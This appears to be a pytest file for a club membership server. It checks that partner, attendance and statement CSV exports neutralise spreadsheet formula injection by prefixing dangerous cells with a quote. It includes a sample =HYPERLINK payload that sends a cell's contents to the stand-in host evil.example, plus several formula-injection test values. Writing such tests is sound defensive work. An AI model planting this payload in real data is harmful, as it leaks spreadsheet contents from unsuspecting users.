"""Every CSV the club hands out opens in Excel as text: a name like =HYPERLINK(...) is never run as a formula,
while amounts and business numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest

from server.membership.business_number import format_number
from server.models import Organization, RoleKind, User
from server.money.claims import approve_claim
from server.platform.exports import safe_cell
from tests.support.costs import acting, claim, commitment, pay_by_transfer, today
from tests.support.pages import sign_in_as
from tests.support.seminars import published, register
from tests.support.world import World

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+82 10", "'+82 10"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("한빛정밀", "한빛정밀"),
        ("a=b", "a=b"),
        ("", ""),
        (-210000, -210000),
        (150000, 150000),
        ("-210000", "-210000"),
        ("123-45-67890", "123-45-67890"),
        (None, None),
    ],
)
def test_a_cell_is_text_unless_it_is_a_number(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


async def test_the_partner_export_neutralises_planted_formulas(
    client: httpx.AsyncClient, world: World
) -> None:
    await Organization.filter(id=world.hanbit.id).update(name_ko=LINK, name_en="@SUM(1)")
    await sign_in_as(client, world.samsung_coordinator.email, world.samsung_coordinator.password)
    rows = _rows(await client.get("/partners/export.csv"))
    [hanbit] = [r for r in rows if "HYPERLINK" in r[1]]
    assert hanbit[1:3] == ["'" + LINK, "'@SUM(1)"]
    assert hanbit[0] == format_number(world.hanbit.business_number or "")  # 123-45-67890 stays as it is


async def test_the_attendance_export_neutralises_planted_formulas(
    client: httpx.AsyncClient, world: World
) -> None:
    await User.filter(id=world.hanbit_rep.user.id).update(name="-2+3")
    await Organization.filter(id=world.hanbit.id).update(name_ko="@SUM(1)")
    seminar = await published(world.admin)
    await register(world.hanbit_rep, seminar)
    await sign_in_as(client, world.admin.email, world.admin.password)
    [_, row] = _rows(await client.get(f"/seminars/{seminar.id}/attendance.csv"))
    assert row[:3] == ["'-2+3", "'@SUM(1)", world.hanbit.business_number]


async def test_the_statement_export_neutralises_planted_formulas(
    client: httpx.AsyncClient, world: World
) -> None:
    pledge = await commitment(world.samsung_coordinator, budget=2_000_000, share_percent=70)
    submitted = await claim(world.hanbit_rep, pledge)
    await approve_claim(actor=acting(world.samsung_coordinator, RoleKind.COORDINATOR), claim_id=submitted.id)
    await pay_by_transfer(acting(world.admin, RoleKind.SECRETARIAT), submitted.id)
    await Organization.filter(id=world.hanbit.id).update(name_ko=LINK)
    await sign_in_as(client, world.samsung_coordinator.email, world.samsung_coordinator.password)
    rows = _rows(await client.get(f"/statements.csv?month={today():%Y-%m}"))
    [line] = [r for r in rows if "HYPERLINK" in r[2]]
    assert line[2] == "'" + LINK
    assert line[3] == world.hanbit.business_number and line[6] == "210000"


def test_every_csv_writer_is_the_safe_one() -> None:
    root = Path(__file__).parent.parent
    writers = [
        str(path.relative_to(root))
        for folder in ("server", "frontend", "schema")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "DictWriter(" in path.read_text()
    ]
    assert writers == ["server/platform/exports.py"]
